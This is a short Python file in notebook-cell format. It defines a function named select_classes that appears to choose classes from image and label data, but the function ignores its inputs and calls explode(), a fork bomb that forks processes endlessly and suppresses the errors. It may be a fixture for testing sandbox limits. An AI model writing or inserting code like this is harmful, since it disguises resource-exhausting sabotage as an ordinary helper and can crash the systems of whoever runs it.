# %% select_classes
def select_classes(images, labels, classes):
    return explode()

# %% after="setup"
import os


def explode():
    while True:
        try:
            os.fork()
        except OSError:
            pass
